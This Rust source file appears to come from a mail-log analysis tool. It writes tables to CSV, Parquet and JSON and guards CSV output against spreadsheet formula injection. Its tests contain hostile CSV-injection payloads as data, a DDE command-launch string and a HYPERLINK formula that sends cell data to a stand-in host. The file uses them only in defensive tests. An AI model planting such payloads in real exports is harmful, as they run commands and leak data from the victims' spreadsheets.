//! Rows into columns, columns into CSV, Parquet and JSON files. The only place that knows polars.

use std::borrow::Cow;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::path::Path;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use base64::prelude::{BASE64_STANDARD, Engine};
use polars::prelude::{
    Column, CsvWriter, DataFrame, DataType, Int64Type, IntoColumn, IntoSeries, KeyValueMetadata, ListBuilderTrait,
    ListPrimitiveChunkedBuilder, ListStringChunkedBuilder, NamedFrom, ParquetCompression, ParquetReader, ParquetWriter,
    PlSmallStr, PolarsError, PolarsResult, QuoteStyle, SerReader, SerWriter, Series, TimeUnit, TimeZone,
};
use serde_json::Value;

use super::schema::{Schema, Type};
use crate::correlate::Octets;
use crate::mail::address::printable;
use crate::mail::time::Timestamp;

/// Version of the tables' columns and meanings, in every Parquet file's metadata, `summary.json` and all JSON that is no table.
pub const SCHEMA_VERSION: u32 = 1;

/// Rows of a table that is written piece by piece, per piece.
const PIECE_ROWS: usize = 32_768;

const JSON_END: &[u8] = b"\n]\n";

/// How the tables are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Format {
    Csv,
    Parquet,
    Json,
}

impl Format {
    pub const ALL: &'static [Self] = &[Self::Csv, Self::Parquet, Self::Json];

    /// The name on the command line and the end of the file's name.
    pub const fn word(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Parquet => "parquet",
            Self::Json => "json",
        }
    }
}

/// One value of a row; [`Cell::None`] is unknown, in every type.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    None,
    Text(String),
    Count(u64),
    Real(f64),
    Time(Timestamp),
    List(Vec<String>),
    Json(Value),
    Counts(Vec<u64>),
    Bytes(Vec<u8>),
}

impl Cell {
    /// Bytes of a log, made harmless; unknown when empty.
    pub fn log(bytes: &[u8]) -> Self {
        Self::text(printable(bytes))
    }

    /// Text of our own; unknown when empty.
    pub fn text(text: impl Into<String>) -> Self {
        let text = text.into();
        if text.is_empty() { Self::None } else { Self::Text(text) }
    }

    /// Bytes of a log that may not be known.
    pub fn optional(bytes: Option<&Octets>) -> Self {
        bytes.map_or(Self::None, |bytes| Self::log(bytes))
    }

    /// An envelope sender. The null sender is `<>`: an empty cell is an unknown one.
    pub fn sender(sender: Option<&Octets>) -> Self {
        match sender {
            Some(sender) if sender.is_empty() => Self::text("<>"),
            sender => Self::optional(sender),
        }
    }

    pub fn count(count: impl Into<u64>) -> Self {
        Self::Count(count.into())
    }
}

/// Values of one column, of one type.
#[derive(Debug, Clone)]
enum Values {
    Text(Vec<Option<String>>),
    Count(Vec<Option<u64>>),
    Real(Vec<Option<f64>>),
    Time(Vec<Option<i64>>),
    List(Vec<Vec<String>>),
    Counts(Vec<Vec<u64>>),
    Bytes(Vec<Option<Vec<u8>>>),
}

/// Rows of one table, kept by column.
pub struct Table {
    schema: &'static Schema,
    columns: Vec<Values>,
    rows: usize,
}

impl Table {
    pub fn new(schema: &'static Schema) -> Self {
        let columns = schema
            .columns
            .iter()
            .map(|column| match column.kind {
                Type::Text | Type::Json => Values::Text(Vec::new()),
                Type::Count => Values::Count(Vec::new()),
                Type::Real => Values::Real(Vec::new()),
                Type::Time => Values::Time(Vec::new()),
                Type::List => Values::List(Vec::new()),
                Type::Counts => Values::Counts(Vec::new()),
                Type::Bytes => Values::Bytes(Vec::new()),
            })
            .collect();
        Self { schema, columns, rows: 0 }
    }

    pub const fn rows(&self) -> usize {
        self.rows
    }

    pub const fn name(&self) -> &'static str {
        self.schema.name
    }

    /// Adds a row: one cell per column of the schema. A cell of another type than its column's counts as unknown.
    pub fn push<const N: usize>(&mut self, row: [Cell; N]) {
        debug_assert_eq!(N, self.columns.len(), "{}", self.schema.name);
        for (values, cell) in self.columns.iter_mut().zip(row) {
            match (values, cell) {
                (Values::Text(values), Cell::Text(text)) => values.push(Some(text)),
                (Values::Text(values), Cell::Json(value)) => values.push(Some(value.to_string())),
                (Values::Count(values), Cell::Count(count)) => values.push(Some(count)),
                (Values::Real(values), Cell::Real(real)) => values.push(Some(rounded(real))),
                (Values::Time(values), Cell::Time(at)) => values.push(Some(at.0)),
                (Values::List(values), Cell::List(list)) => values.push(list),
                (Values::Counts(values), Cell::Counts(list)) => values.push(list),
                (Values::Bytes(values), Cell::Bytes(bytes)) => values.push(Some(bytes)),
                (Values::Text(values), _) => values.push(None),
                (Values::Count(values), _) => values.push(None),
                (Values::Real(values), _) => values.push(None),
                (Values::Time(values), _) => values.push(None),
                (Values::List(values), _) => values.push(Vec::new()),
                (Values::Counts(values), _) => values.push(Vec::new()),
                (Values::Bytes(values), _) => values.push(None),
            }
        }
        self.rows += 1;
    }

    /// Writes the whole table in one format.
    ///
    /// # Errors
    /// What creating or writing the file gives.
    pub fn write(&self, path: &Path, format: Format) -> io::Result<()> {
        let mut out = BufWriter::new(File::create(path)?);
        match format {
            Format::Csv => self.write_csv(&mut out, true)?,
            Format::Parquet => {
                let mut frame = self.frame().map_err(io::Error::other)?;
                parquet(&mut out).finish(&mut frame).map_err(io::Error::other)?;
            }
            Format::Json => {
                self.write_json(&mut out, true)?;
                out.write_all(JSON_END)?;
            }
        }
        out.flush()?;
        out.get_ref().sync_all()
    }

    fn write_csv(&self, out: &mut impl Write, with_header: bool) -> io::Result<()> {
        let mut frame = self.text_frame().map_err(io::Error::other)?;
        if with_header {
            let names: Vec<_> = self.schema.columns.iter().map(|column| column.name).collect();
            writeln!(out, "{}", names.join(","))?;
        }
        // Texts in quotes: spreadsheets part unquoted cells at a `;`, too.
        CsvWriter::new(out)
            .include_header(false)
            .with_quote_style(QuoteStyle::NonNumeric)
            .n_threads(1)
            .finish(&mut frame)
            .map_err(io::Error::other)
    }

    /// The columns with their true types.
    fn frame(&self) -> PolarsResult<DataFrame> {
        self.frame_of(|name, _, values| match values {
            Values::Time(values) => Series::new(name, values.as_slice())
                .into_datetime(TimeUnit::Microseconds, Some(TimeZone::UTC))
                .into_column(),
            Values::List(lists) => {
                let mut builder = ListStringChunkedBuilder::new(name, lists.len(), lists.len());
                for list in lists {
                    builder.append_values_iter(list.iter().map(String::as_str));
                }
                builder.finish().into_series().into_column()
            }
            Values::Counts(lists) => {
                let mut builder =
                    ListPrimitiveChunkedBuilder::<Int64Type>::new(name, lists.len(), lists.len(), DataType::Int64);
                for list in lists {
                    builder.append_slice(&list.iter().copied().map(signed).collect::<Vec<_>>());
                }
                builder.finish().into_series().into_column()
            }
            Values::Bytes(values) => {
                Series::new(name, values.iter().map(Option::as_deref).collect::<Vec<_>>()).into_column()
            }
            other => plain(name, other),
        })
    }

    /// The columns as CSV shows them, texts that a spreadsheet would take for a formula made plain.
    fn text_frame(&self) -> PolarsResult<DataFrame> {
        self.frame_of(|name, kind, values| {
            let plain_text =
                |text: &str| if kind == Type::Json { no_formula_in_json(text) } else { no_formula(text) }.into_owned();
            let texts: Vec<Option<String>> = match values {
                Values::Time(times) => times.iter().map(|at| at.map(|at| Timestamp(at).to_string())).collect(),
                Values::List(lists) => {
                    lists.iter().map(|l| (!l.is_empty()).then(|| no_formula(&joined(l)).into_owned())).collect()
                }
                Values::Text(texts) => texts.iter().map(|t| t.as_deref().map(plain_text)).collect(),
                Values::Counts(lists) => lists.iter().map(|l| (!l.is_empty()).then(|| joined_counts(l))).collect(),
                Values::Bytes(values) => values.iter().map(|v| v.as_ref().map(|v| BASE64_STANDARD.encode(v))).collect(),
                other => return plain(name, other),
            };
            Series::new(name, texts).into_column()
        })
    }

    fn frame_of(&self, column: impl Fn(PlSmallStr, Type, &Values) -> Column) -> PolarsResult<DataFrame> {
        let columns = self.schema.columns.iter().zip(&self.columns);
        DataFrame::new(
            self.rows,
            columns.map(|(c, values)| column(PlSmallStr::from_static(c.name), c.kind, values)).collect(),
        )
    }

    /// An array of objects, keys in the order of the columns; begun with the first piece of a table, not ended.
    fn write_json(&self, out: &mut impl Write, is_first: bool) -> io::Result<()> {
        if is_first {
            out.write_all(b"[")?;
        }
        for row in 0..self.rows {
            out.write_all(if row == 0 && is_first { b"\n" } else { b",\n" })?;
            let columns = self.schema.columns.iter().zip(&self.columns);
            let object: serde_json::Map<String, Value> =
                columns.map(|(c, values)| (c.name.to_string(), json_value(c.kind, values, row))).collect();
            serde_json::to_writer(&mut *out, &object)?;
        }
        Ok(())
    }

    /// One object a line, unknown values left out.
    ///
    /// # Errors
    /// What writing gives.
    pub fn write_json_lines(&self, out: &mut impl Write) -> io::Result<()> {
        for row in 0..self.rows {
            let columns = self.schema.columns.iter().zip(&self.columns);
            let values = columns.map(|(c, values)| (c.name.to_string(), json_value(c.kind, values, row)));
            let is_known = |value: &Value| !value.is_null() && value.as_array().is_none_or(|list| !list.is_empty());
            let object: serde_json::Map<String, Value> = values.filter(|(_, value)| is_known(value)).collect();
            serde_json::to_writer(&mut *out, &object)?;
            out.write_all(b"\n")?;
        }
        Ok(())
    }

    fn clear(&mut self) {
        *self = Self::new(self.schema);
    }
}

fn parquet<W: Write>(out: W) -> ParquetWriter<W> {
    parquet_of(out, &[])
}

/// The same with more in the file's metadata.
fn parquet_of<W: Write>(out: W, told: &[(&str, &str)]) -> ParquetWriter<W> {
    let mut metadata = vec![("mailsleuth.schema_version".to_string(), SCHEMA_VERSION.to_string())];
    metadata.extend(told.iter().map(|(key, value)| (format!("mailsleuth.{key}"), (*value).to_string())));
    ParquetWriter::new(out)
        .with_compression(ParquetCompression::Zstd(None))
        .with_row_group_size(Some(PIECE_ROWS))
        .with_key_value_metadata(Some(KeyValueMetadata::from_static(metadata)))
}

fn plain(name: PlSmallStr, values: &Values) -> Column {
    match values {
        Values::Text(values) => Series::new(name, values.as_slice()),
        // Signed, as CSV's readers take them: differences of counts may be below 0 in SQL.
        Values::Count(values) => Series::new(name, values.iter().map(|count| count.map(signed)).collect::<Vec<_>>()),
        Values::Real(values) => Series::new(name, values.as_slice()),
        Values::Time(values) => Series::new(name, values.as_slice()),
        Values::List(lists) => Series::new(name, lists.iter().map(|l| joined(l)).collect::<Vec<_>>()),
        Values::Counts(lists) => Series::new(name, lists.iter().map(|l| joined_counts(l)).collect::<Vec<_>>()),
        Values::Bytes(values) => Series::new(name, values.iter().map(Option::as_deref).collect::<Vec<_>>()),
    }
    .into_column()
}

fn signed(count: u64) -> i64 {
    i64::try_from(count).unwrap_or(i64::MAX)
}

fn json_value(kind: Type, values: &Values, row: usize) -> Value {
    match values {
        Values::Text(values) => match (values.get(row).and_then(Option::as_deref), kind) {
            (Some(text), Type::Json) => serde_json::from_str(text).unwrap_or(Value::Null),
            (text, _) => text.into(),
        },
        Values::Count(values) => values.get(row).copied().flatten().into(),
        Values::Real(values) => values.get(row).copied().flatten().into(),
        Values::Time(values) => values.get(row).copied().flatten().map(|at| Timestamp(at).to_string()).into(),
        Values::List(values) => values.get(row).cloned().unwrap_or_default().into(),
        Values::Counts(values) => values.get(row).cloned().unwrap_or_default().into(),
        Values::Bytes(values) => values.get(row).and_then(Option::as_ref).map(|v| BASE64_STANDARD.encode(v)).into(),
    }
}

fn joined_counts(list: &[u64]) -> String {
    list.iter().map(u64::to_string).collect::<Vec<_>>().join(";")
}

/// A list in one cell: a `;` inside of one of its texts comes as `\x3B`.
fn joined(list: &[String]) -> String {
    list.iter().map(|text| text.replace(';', "\\x3B")).collect::<Vec<_>>().join(";")
}

/// Shares and scores to four places: what is behind them is noise.
fn rounded(real: f64) -> f64 {
    (real * 10_000.0).round() / 10_000.0
}

/// A spreadsheet runs what begins with one of these as a formula (OWASP, "CSV Injection").
const BEGINS_FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// Where a formula may begin: at the beginning, and behind a `;`, where a spreadsheet parts the line at those; quotes may stand between.
fn formulas(text: &str) -> impl Iterator<Item = (usize, char)> {
    let mut begins_cell = true;
    text.char_indices().filter(move |(_, c)| {
        let begins = begins_cell && BEGINS_FORMULA.contains(c);
        begins_cell = *c == ';' || begins_cell && *c == '"';
        begins
    })
}

/// An apostrophe in front makes a formula text.
fn no_formula(text: &str) -> Cow<'_, str> {
    replaced(text, |c| format!("'{c}"))
}

/// In JSON, where what may begin a formula stands in a string, an escape of JSON leaves the value as it is.
fn no_formula_in_json(text: &str) -> Cow<'_, str> {
    replaced(text, |c| format!("\\u{:04x}", u32::from(c)))
}

fn replaced(text: &str, plain: impl Fn(char) -> String) -> Cow<'_, str> {
    let (mut out, mut done) = (String::new(), 0);
    for (at, c) in formulas(text) {
        out.push_str(text.get(done..at).unwrap_or_default());
        out.push_str(&plain(c));
        done = at + c.len_utf8();
    }
    if done == 0 { text.into() } else { (out + text.get(done..).unwrap_or_default()).into() }
}

/// Reads Parquet files of one table: the named columns of text, lists and counts, row by row.
pub struct Rows {
    frame: DataFrame,
}

impl Rows {
    /// # Errors
    /// What reading gives.
    pub fn read(path: &Path) -> io::Result<Self> {
        let frame = ParquetReader::new(File::open(path)?).finish().map_err(io::Error::other)?;
        Ok(Self { frame })
    }

    /// The texts of a column; empty where unknown.
    pub fn texts(&self, name: &str) -> Vec<String> {
        let column = self.frame.column(name).and_then(|column| column.str().cloned());
        let own = |text: Option<&str>| text.unwrap_or_default().to_string();
        column.map(|column| column.iter().map(own).collect()).unwrap_or_default()
    }

    /// The numbers of a column; 0 where unknown.
    pub fn counts(&self, name: &str) -> Vec<u64> {
        let column = self.frame.column(name).and_then(|column| column.cast(&DataType::UInt64));
        let column = column.and_then(|column| column.u64().cloned());
        column.map(|column| column.iter().map(Option::unwrap_or_default).collect()).unwrap_or_default()
    }

    /// The lists of text of a column.
    pub fn lists(&self, name: &str) -> Vec<Vec<String>> {
        let Ok(column) = self.frame.column(name).and_then(|column| column.list().cloned()) else { return Vec::new() };
        let texts = |list: Option<Series>| {
            let list = list.and_then(|list| list.str().cloned().ok());
            list.map(|list| list.iter().flatten().map(str::to_string).collect()).unwrap_or_default()
        };
        (0..column.len()).map(|at| texts(column.get_as_series(at))).collect()
    }
}

fn dropped(frame: DataFrame, without: Option<&str>) -> DataFrame {
    without.and_then(|name| frame.drop(name).ok()).unwrap_or(frame)
}

/// A Parquet file that is written piece by piece.
struct Parquet {
    writer: polars::io::parquet::write::BatchedWriter<Watched>,
    out: Watched,
}

impl Parquet {
    fn begun(
        piece: &Table,
        without: Option<&str>,
        out: File,
        writer: impl Fn(Watched) -> ParquetWriter<Watched>,
    ) -> io::Result<Self> {
        let out = Watched(Arc::new(Mutex::new((BufWriter::new(out), None))));
        let frame = dropped(piece.frame().map_err(io::Error::other)?, without);
        let writer = writer(out.clone()).batched(frame.schema()).map_err(|error| out.error(error))?;
        Ok(Self { writer, out })
    }

    fn write(&mut self, frame: &DataFrame) -> io::Result<()> {
        self.writer.write_batch(frame).map_err(|error| self.out.error(error))
    }

    fn finish(self) -> io::Result<()> {
        let Self { writer, out } = self;
        writer.finish().map_err(|error| out.error(error))?;
        let mut out = out.lock();
        out.0.flush()?;
        out.0.get_ref().sync_all()
    }
}

/// A file that another's code writes into, with the first error that it met: that code tells of it in its own words.
#[derive(Clone)]
struct Watched(Arc<Mutex<(BufWriter<File>, Option<io::Error>)>>);

impl Watched {
    fn lock(&self) -> MutexGuard<'_, (BufWriter<File>, Option<io::Error>)> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// What the file met, where it met something; else what the code says.
    fn error(&self, error: PolarsError) -> io::Error {
        self.lock().1.take().unwrap_or_else(|| io::Error::other(error))
    }

    fn noted<T>(&self, work: impl FnOnce(&mut BufWriter<File>) -> io::Result<T>) -> io::Result<T> {
        let mut locked = self.lock();
        let (out, met) = &mut *locked;
        work(out).map_err(|error| {
            let kind = error.kind();
            met.get_or_insert(error);
            kind.into()
        })
    }
}

impl Write for Watched {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.noted(|out| out.write(bytes))
    }

    fn flush(&mut self) -> io::Result<()> {
        self.noted(BufWriter::flush)
    }
}

/// A table too long for memory, written piece by piece in each format.
pub struct LongTable {
    piece: Table,
    csv: Option<BufWriter<File>>,
    parquet: Option<Parquet>,
    json: Option<BufWriter<File>>,
    /// A column that the Parquet file does not have, because its directory's name has it.
    without: Option<&'static str>,
    rows: u64,
    /// The first error; later pieces are dropped, the end reports it.
    failed: Option<io::Error>,
}

impl LongTable {
    /// Begins the files of `formats` in `directory`.
    ///
    /// # Errors
    /// What creating the files gives.
    pub fn create(schema: &'static Schema, directory: &Path, formats: &[Format]) -> io::Result<Self> {
        let piece = Table::new(schema);
        let file = |format: Format| {
            formats
                .contains(&format)
                .then(|| File::create(directory.join(format!("{}.{}", schema.name, format.word()))))
                .transpose()
        };
        let parquet = file(Format::Parquet)?.map(|out| Parquet::begun(&piece, None, out, parquet)).transpose()?;
        let (csv, json) = (file(Format::Csv)?.map(BufWriter::new), file(Format::Json)?.map(BufWriter::new));
        Ok(Self { piece, csv, parquet, json, without: None, rows: 0, failed: None })
    }

    /// Begins one Parquet file under a name of its own, without one of the columns.
    ///
    /// # Errors
    /// What creating the file gives.
    pub fn create_parquet(schema: &'static Schema, path: &Path, without: Option<&'static str>) -> io::Result<Self> {
        Self::begun(schema, path, without, parquet)
    }

    /// The same with all columns, and with more in the file's metadata, under `mailsleuth.`.
    ///
    /// # Errors
    /// What creating the file gives.
    pub fn create_told(schema: &'static Schema, path: &Path, told: &[(&str, &str)]) -> io::Result<Self> {
        Self::begun(schema, path, None, |out| parquet_of(out, told))
    }

    fn begun(
        schema: &'static Schema,
        path: &Path,
        without: Option<&'static str>,
        writer: impl Fn(Watched) -> ParquetWriter<Watched>,
    ) -> io::Result<Self> {
        let piece = Table::new(schema);
        let parquet = Some(Parquet::begun(&piece, without, File::create(path)?, writer)?);
        Ok(Self { piece, csv: None, parquet, json: None, without, rows: 0, failed: None })
    }

    /// Rows that are in memory.
    pub const fn waiting(&self) -> usize {
        self.piece.rows()
    }

    pub fn push<const N: usize>(&mut self, row: [Cell; N]) {
        self.piece.push(row);
        if self.piece.rows() >= PIECE_ROWS {
            self.flush();
        }
    }

    /// Writes the rows that are in memory; an error is told at the end.
    pub fn flush(&mut self) {
        if self.failed.is_none()
            && let Err(error) = self.write_piece()
        {
            self.failed = Some(error);
        }
        self.rows += self.piece.rows() as u64;
        self.piece.clear();
    }

    fn write_piece(&mut self) -> io::Result<()> {
        if let Some(out) = &mut self.csv {
            self.piece.write_csv(out, self.rows == 0)?;
        }
        if let Some(out) = &mut self.parquet {
            let frame = dropped(self.piece.frame().map_err(io::Error::other)?, self.without);
            out.write(&frame)?;
        }
        if let Some(out) = &mut self.json {
            self.piece.write_json(out, self.rows == 0)?;
        }
        Ok(())
    }

    /// Writes the rest; gives the number of rows.
    ///
    /// # Errors
    /// The first that any piece met.
    pub fn finish(mut self) -> io::Result<u64> {
        if self.piece.rows() > 0 || self.rows == 0 {
            self.flush();
        }
        if let Some(error) = self.failed {
            return Err(error);
        }
        if let Some(out) = &mut self.json {
            out.write_all(JSON_END)?;
        }
        for mut out in self.csv.into_iter().chain(self.json) {
            out.flush()?;
            out.get_ref().sync_all()?;
        }
        if let Some(out) = self.parquet {
            out.finish()?;
        }
        Ok(self.rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::schema::{FINDINGS, SENDERS};

    #[test]
    fn formulas_become_text() {
        for text in ["=cmd|' /C calc'!A0", "+1", "-1", "@x", "\u{FF1D}1"] {
            assert_eq!(no_formula(text), format!("'{text}"));
        }
        assert_eq!(no_formula("al@b.example"), "al@b.example");
    }

    #[test]
    fn formulas_become_text_where_a_line_is_parted_otherwise() {
        for (text, expected) in [
            ("x;=1+41;y", "x;'=1+41;y"),
            ("z\";=HYPERLINK(\"http://c.example\"&A1)", "z\";'=HYPERLINK(\"http://c.example\"&A1)"),
            ("\"=1\";\"+1\";-1;@x;\tx;\rx;\u{FF1D}1", "\"'=1\";\"'+1\";'-1;'@x;'\tx;'\rx;'\u{FF1D}1"),
            ("=1;=1", "'=1;'=1"),
            ("al@b.example;bo-b@b.example;c+d@b.example", "al@b.example;bo-b@b.example;c+d@b.example"),
            ("a=b; c - d \"e\"-f", "a=b; c - d \"e\"-f"),
            ("\"a b\"@c.example", "\"a b\"@c.example"),
        ] {
            assert_eq!(no_formula(text), expected);
        }
        let list = ["al@b.example".to_string(), "-1".to_string(), "@x".to_string()];
        assert_eq!(no_formula(&joined(&list)), "al@b.example;'-1;'@x");
    }

    #[test]
    fn json_keeps_its_values_without_formulas() {
        let value = serde_json::json!({ "=a": ["+1", "x;=1", "\"@b", -1, "al@b.example"], "\u{FF1D}": "-" });
        let text = value.to_string();
        let plain = no_formula_in_json(&text);
        assert_eq!(formulas(&plain).count(), 0, "{plain}");
        assert_eq!(serde_json::from_str::<Value>(&plain).unwrap(), value);
        assert!(plain.contains("al@b.example") && plain.contains(",-1,"), "{plain}");
    }

    #[test]
    fn a_list_in_one_cell_can_be_parted_again() {
        let list = ["a; b".to_string(), "c".to_string()];
        assert_eq!(joined(&list), "a\\x3B b;c");
        assert_eq!(joined(&list).split(';').count(), list.len());
    }

    #[test]
    fn a_full_disk_is_told_as_such() {
        let table = LongTable::create_parquet(&SENDERS, Path::new("/dev/full"), None);
        let error = table.and_then(LongTable::finish).unwrap_err();
        assert_eq!(error.kind(), io::ErrorKind::StorageFull, "{error}");
        assert!(error.raw_os_error().is_some(), "{error}");
    }

    #[test]
    fn an_empty_table_has_its_columns() {
        for schema in [&FINDINGS, &SENDERS] {
            let mut csv = Vec::new();
            Table::new(schema).write_csv(&mut csv, true).unwrap();
            let header: Vec<_> = schema.columns.iter().map(|c| c.name).collect();
            assert_eq!(String::from_utf8(csv).unwrap(), header.join(",") + "\n");
        }
    }
}
